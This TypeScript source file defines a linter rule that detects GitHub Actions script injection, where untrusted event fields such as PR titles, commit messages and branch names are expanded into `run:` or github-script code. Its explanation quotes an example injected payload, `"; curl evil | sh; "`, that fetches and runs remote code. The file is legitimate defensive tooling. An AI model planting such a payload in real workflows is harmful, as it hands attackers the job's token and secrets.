import { stringOf } from '../../support/data.js';
import { defineRule } from '../../types.js';
import { expressions, githubSteps } from './_support.js';

/** Contexts an outsider controls (after actionlint's list of untrusted inputs). `*` stands for an array index or key. */
const UNTRUSTED = [
  'github.head_ref',
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.default_branch',
  'github.event.comment.body',
  'github.event.review.body',
  'github.event.review_comment.body',
  'github.event.discussion.title',
  'github.event.discussion.body',
  'github.event.pages.*.page_name',
  'github.event.commits.*.message',
  'github.event.commits.*.author.email',
  'github.event.commits.*.author.name',
  'github.event.head_commit.message',
  'github.event.head_commit.author.email',
  'github.event.head_commit.author.name',
  'github.event.head_commit.committer.email',
  'github.event.head_commit.committer.name',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.display_title',
  'github.event.workflow_run.head_commit.message',
  'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name',
  'github.event.workflow_run.pull_requests.*.head.ref',
].map((context) => new RegExp(`\\b${context.replace(/\./g, '\\.').replace(/\\\.\*\\\./g, '(?:\\.\\*|\\[[^\\]]+\\]|\\.\\d+)\\.')}\\b`));

export function untrustedContext(expression: string): string | undefined {
  for (const pattern of UNTRUSTED) {
    const match = pattern.exec(expression);
    if (match) return match[0];
  }
  return undefined;
}

export const scriptInjection = defineRule({
  id: 'workflow/script-injection',
  area: 'workflow',
  severity: 'high',
  title: 'Untrusted input expanded into a script',
  why:
    '`${{ }}` is substituted into the script text before the shell runs it, so a pull request title like `"; curl evil | sh; "` becomes code running with the job\'s token and secrets.',
  detect:
    'A `${{ … }}` expression in a `run:` script or an actions/github-script `script:` that reads a context an outsider controls: issue, pull request, comment, review and discussion titles and bodies, commit messages and authors, branch names (github.head_ref, head.ref, workflow_run.head_branch), page names.',
  fix: 'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.pull_request.title }}` then `echo "$TITLE"`.',
  refs: ['zizmor:template-injection'],
  check({ repo, report }) {
    for (const step of githubSteps(repo)) {
      const script = step.run ?? (step.action === 'actions/github-script' ? stringOf(step.with.script) : undefined);
      if (script === undefined) continue;
      const path = step.run !== undefined ? [...step.path, 'run'] : [...step.path, 'with', 'script'];
      for (const { expression } of expressions(script)) {
        const context = untrustedContext(expression);
        if (context) {
          report({ location: step.document.locate(path), message: `${context} is expanded into the script of job ${step.job.id}; pass it through env: instead` });
        }
      }
    }
  },
});
